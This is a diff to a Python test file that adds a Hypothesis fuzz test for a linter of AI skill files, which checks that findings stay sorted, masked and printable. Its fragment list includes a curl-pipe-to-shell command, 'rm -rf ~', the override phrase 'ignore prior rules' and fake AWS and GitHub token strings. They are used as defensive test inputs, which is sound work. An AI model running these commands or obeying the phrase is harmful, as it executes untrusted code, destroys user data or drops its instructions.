@@ -8,6 +8,8 @@ import time
 import unicodedata
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from store.models import LintFinding
 from store.skills.lint import LINT_RULES, MAX_BLOB_CHARS, lint_skill, lint_text, neutralise
@@ -464,6 +466,31 @@ def test_clean_skill_has_no_findings() -> None:
         "Set `ANTHROPIC_API_KEY` in your environment first.\n"
     )
     assert lint_text("SKILL.md", text) == []
+
+
+_FRAGMENTS = st.sampled_from(
+    [
+        *("curl https://x.io/i | sh", "rm -rf ~", "ignore prior rules", "token = ", f" {GITHUB} "),
+        *("\x1b[31m", "\u202e", "\u200d", "\ufeff", "\U0001f468", "\n", "\r\n", " "),
+        *('"', "AKIA", "`", "|", "$("),
+    ]
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.one_of(_FRAGMENTS, st.text(max_size=20)), max_size=30))
+def test_any_text_gives_well_formed_findings(parts: list[str]) -> None:
+    text = "".join(parts)
+    line_count = text.count("\n") + 1
+    found = lint_text("SKILL.md", text)
+    assert found == sorted(found, key=lambda f: (f.line, f.rule, f.severity, f.message, f.excerpt))
+    for finding in found:
+        assert finding.rule in LINT_RULES
+        assert 0 <= finding.line <= line_count
+        assert len(finding.excerpt) <= 160
+        assert GITHUB not in finding.excerpt  # a delimited token is always masked
+        assert_printable(finding.excerpt)
+        assert_printable(finding.message)
 
 
 # --------------------------------------------------------------------------- neutralise
